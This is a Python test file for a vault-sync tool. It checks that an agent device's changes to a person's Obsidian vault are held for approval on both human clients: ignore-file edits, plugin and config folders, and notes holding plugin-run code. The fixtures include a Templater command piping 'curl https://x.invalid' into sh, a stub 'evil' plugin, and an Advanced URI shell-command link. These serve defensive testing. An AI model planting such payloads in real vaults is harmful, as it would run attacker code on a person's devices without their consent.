"""What a person's devices hold when an agent device changes it (issue 44, findings 1, 3, 4, 5),
end to end: a relay on loopback, the agent's server (Python, kind agent), the person's laptop
(Python, driven through `companion sync` / `status` / `held`) and the person's phone (the
Obsidian plugin's sync core through `node dist/cli.js`, kind human).

Each attack of the issue is replayed as the agent would play it; both human clients hold it
(listed as held, `sync` exiting 0 as for any held change), the rest of the vault keeps syncing
between them, and the person's decision is what every device ends up with. The rules
themselves are pinned for both clients by `tests/vectors/holds_v1.json`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from companion.sync.round.holds import LISTED
from tests.syncharness import SyncCluster
from tests.test_plugin_interop import PluginDevice, cli  # noqa: F401  (the module fixture)

CONFIG = "changes Obsidian's plugins, themes or settings"


class World:
    def __init__(self, cluster: SyncCluster, cli_js: Path) -> None:
        self.cluster = cluster
        self.server = cluster.add_device("server", "agent")
        self.laptop = cluster.add_device("laptop", "human")
        self.phone = PluginDevice(cluster, cli_js)
        self.phone.join()

    def laptop_sync(self) -> str:
        """`companion sync` on the laptop, as the person runs it: exit 0, its output."""
        r = self.laptop.cli("sync", str(self.laptop.vault))
        assert r.returncode == 0, r.stdout + r.stderr
        return r.stdout

    def phone_sync(self) -> str:
        r = self.phone.sync()
        assert r.returncode == 0, r.stdout + r.stderr
        return r.stdout

    def laptop_held(self) -> dict[str, str]:
        r = self.laptop.cli("status", str(self.laptop.vault), "--json", "--offline")
        assert r.returncode == 0, r.stderr
        return {h["path"]: h["reason"] for h in json.loads(r.stdout)["held"]}

    def phone_held(self) -> dict[str, str]:
        return {h["path"]: h["reason"] for h in self.phone.status()["held"]}

    def everyone_once(self) -> None:
        self.server.sync()
        self.laptop_sync()
        self.phone_sync()


@pytest.fixture
def world(tmp_path: Path, cli: Path) -> Iterator[World]:  # noqa: F811
    with SyncCluster(tmp_path) as cluster:
        w = World(cluster, cli)
        try:
            yield w
        finally:
            w.server.close()


def _held_lines(out: str, paths: list[str]) -> None:
    for p in paths:
        assert p in out, (p, out)


def test_an_agents_ignore_file_is_held_and_the_persons_devices_keep_syncing(world: World) -> None:
    """Finding 1: the agent writes `knowledge/` into `.companionignore`. It cut the laptop and
    the phone off from each other for that folder, every sync exiting 0; now both hold it, and
    their edits under knowledge/ still reach each other until the person decides."""
    w = world
    w.laptop.write("knowledge/git.md", "rebase with care\n")
    w.everyone_once()
    assert w.phone.read("knowledge/git.md") == b"rebase with care\n"

    w.server.write(".companionignore", "knowledge/\n")
    w.server.sync()
    out = w.laptop_sync()
    assert "held for your approval: .companionignore" in out
    out = w.phone_sync()
    assert "held: .companionignore" in out
    reason = "changes what sync leaves out (.companionignore)"
    assert w.laptop_held() == {".companionignore": reason}
    assert w.phone_held() == {".companionignore": reason}
    assert w.laptop.read(".companionignore") is None
    assert w.phone.read(".companionignore") is None

    # the person's devices still sync knowledge/ both ways
    w.laptop.write("knowledge/git.md", "rebase with care\nfrom the laptop\n")
    w.phone.write("knowledge/vim.md", "from the phone\n")
    w.laptop_sync()
    w.phone_sync()
    w.laptop_sync()
    assert w.phone.read("knowledge/git.md") == b"rebase with care\nfrom the laptop\n"
    assert w.laptop.read("knowledge/vim.md") == b"from the phone\n"

    # the person decides on the laptop: refused; the phone follows the person's choice
    r = w.laptop.cli("held", "refuse", str(w.laptop.vault), ".companionignore")
    assert r.returncode == 0, r.stderr
    w.phone_sync()
    assert w.phone_held() == {}
    w.server.sync()
    assert w.server.read(".companionignore") is None
    w.laptop.write("knowledge/after.md", "still shared\n")
    w.laptop_sync()
    w.phone_sync()
    w.server.sync()
    assert w.phone.read("knowledge/after.md") == b"still shared\n"
    assert w.server.read("knowledge/after.md") == b"still shared\n"


EVIL_JS = "module.exports = class extends require('obsidian').Plugin { onload(){} };\n"


def test_any_obsidian_config_folder_is_held_on_both_human_clients(world: World) -> None:
    """Findings 3 and 4: Obsidian's folder in any case, and a config folder of another name
    (by its shape, arriving with the change or already in the vault), held on both."""
    w = world
    # the phone's own config folder, synced by the person: its shape is in the vault
    w.phone.write(".mobile/app.json", '{"mine": true}\n')
    w.phone_sync()
    w.laptop_sync()
    w.server.sync()

    agent = {
        ".obsidian-mobile/plugins/evil/manifest.json": '{"id": "evil"}\n',
        ".obsidian-mobile/plugins/evil/main.js": EVIL_JS,
        ".obsidian-mobile/community-plugins.json": '["evil"]\n',
        ".mobile/snippets/x.css": "body { display: none }\n",
        ".Obsidian/plugins/x/main.js": EVIL_JS,
        ".OBSIDIAN/community-plugins.json": '["x"]\n',
        ".obsidian/appearance.json": '{"cssTheme": "evil"}\n',
        ".obsidian/core-plugins.json": '["daily-notes"]\n',
    }
    for p, text in agent.items():
        w.server.write(p, text)
    w.server.write("knowledge/ok.md", "a normal note\n")
    w.server.sync()
    _held_lines(w.laptop_sync(), list(agent))
    _held_lines(w.phone_sync(), list(agent))
    want = dict.fromkeys(agent, CONFIG)
    assert w.laptop_held() == want
    assert w.phone_held() == want
    for p in agent:
        assert w.laptop.read(p) is None and w.phone.read(p) is None, p
    assert (
        w.laptop.read("knowledge/ok.md") == w.phone.read("knowledge/ok.md") == (b"a normal note\n")
    )


TEMPLATER = "<%* const r = await tp.user.run('curl https://x.invalid | sh') %>\n"


def test_notes_that_are_code_for_plugins_and_their_settings_are_held(world: World) -> None:
    """Finding 5: Templater commands, a dataviewjs block, an Advanced URI command link, and
    the settings that point Obsidian at a template: held on both; the person accepts one."""
    w = world
    agent: dict[str, tuple[str, str]] = {
        "templates/daily.md": (TEMPLATER, "holds code a plugin runs: a Templater command"),
        "notes/dv.md": (
            "```dataviewjs\ndv.paragraph(app.vault.getName())\n```\n",
            "holds code a plugin runs: a dataviewjs code block",
        ),
        "notes/link.md": (
            "[tidy](obsidian://advanced-uri?vault=v&commandid=obsidian-shellcommands%3Ax)\n",
            "holds code a plugin runs: an obsidian://advanced-uri link",
        ),
        "scripts/user.js": ("module.exports = () => 1;\n", "is a script that Obsidian plugins run"),
        ".obsidian/daily-notes.json": ('{"template": "templates/daily"}\n', CONFIG),
        ".obsidian/templates.json": ('{"folder": "templates"}\n', CONFIG),
    }
    for p, (text, _) in agent.items():
        w.server.write(p, text)
    w.server.write("notes/plain.md", "a plain note, `code` and 50 % done\n")
    w.server.sync()
    _held_lines(w.laptop_sync(), list(agent))
    _held_lines(w.phone_sync(), list(agent))
    for held in (w.laptop_held(), w.phone_held()):
        assert sorted(held) == sorted(agent)
        for p, (_, why) in agent.items():
            assert held[p].startswith(why), (p, held[p])
    assert w.laptop.read("notes/plain.md") == w.phone.read("notes/plain.md") is not None
    assert w.laptop.read("templates/daily.md") is None and w.phone.read("notes/dv.md") is None

    # the person accepts the dataviewjs note on the phone: it is applied there, and the laptop
    # still holds its own copy of the decision to make
    r = w.phone.run("held", str(w.phone.vault), "--accept", "notes/dv.md")
    assert r.returncode == 0, r.stderr
    assert w.phone.read("notes/dv.md") == agent["notes/dv.md"][0].encode()
    assert "notes/dv.md" in w.laptop_held()


def test_an_agents_edit_of_a_persons_template_is_held_but_a_rename_is_not(world: World) -> None:
    """A person's Templater template is the person's: the agent's edit that adds a command
    waits; the agent's rename of it, the same bytes, is applied (nothing new to run)."""
    w = world
    w.laptop.write("templates/day.md", "# <% tp.date.now() %>\n")
    w.laptop_sync()
    w.phone_sync()
    w.server.sync()
    w.server.rename("templates/day.md", "templates/daily.md")
    w.server.sync()
    w.laptop_sync()
    w.phone_sync()
    for dev in (w.laptop, w.phone):
        assert dev.read("templates/daily.md") == b"# <% tp.date.now() %>\n"
        assert dev.read("templates/day.md") is None
    assert w.laptop_held() == {} and w.phone_held() == {}
    w.server.write("templates/daily.md", "# <% tp.date.now() %>\n<%* tp.user.x() %>\n")
    w.server.sync()
    w.laptop_sync()
    w.phone_sync()
    assert list(w.laptop_held()) == list(w.phone_held()) == ["templates/daily.md"]


def test_the_persons_extra_held_paths_hold_on_both_human_clients(world: World) -> None:
    """Issue 43 drift R4: `sync.hold_patterns` (extra paths held when an agent changes them)
    existed only in Python. The plugin has it too (`--hold-patterns`, the settings tab's
    "Extra held paths"), by the same matching rule (`tests/vectors/holds_v1.json`)."""
    w = world
    cfg = w.laptop.paths.config_dir / "config.toml"
    cfg.write_text(
        cfg.read_text("utf-8") + '\n[sync]\nhold_patterns = ["private/", "*.pdf"]\n', "utf-8"
    )
    w.server.write("private/Diary.md", "the agent writes where the person keeps their own\n")
    w.server.write("docs/report.PDF", "%PDF-1.4 not really\n")
    w.server.write("knowledge/ok.md", "a normal note\n")
    w.server.sync()
    _held_lines(w.laptop_sync(), ["private/Diary.md", "docs/report.PDF"])
    r = w.phone.sync("--hold-patterns", "private/,*.pdf")
    assert r.returncode == 0, r.stdout + r.stderr
    want = dict.fromkeys(["private/Diary.md", "docs/report.PDF"], LISTED)
    assert w.laptop_held() == want
    assert w.phone_held() == want
    assert w.laptop.read("private/Diary.md") is None and w.phone.read("private/Diary.md") is None
    assert w.laptop.read("knowledge/ok.md") == w.phone.read("knowledge/ok.md") == b"a normal note\n"
    # without the setting the phone holds nothing of it: the list is per device, as in Python
    w.server.write("private/Other.md", "more\n")
    w.server.sync()
    w.phone_sync()
    assert w.phone.read("private/Other.md") == b"more\n"
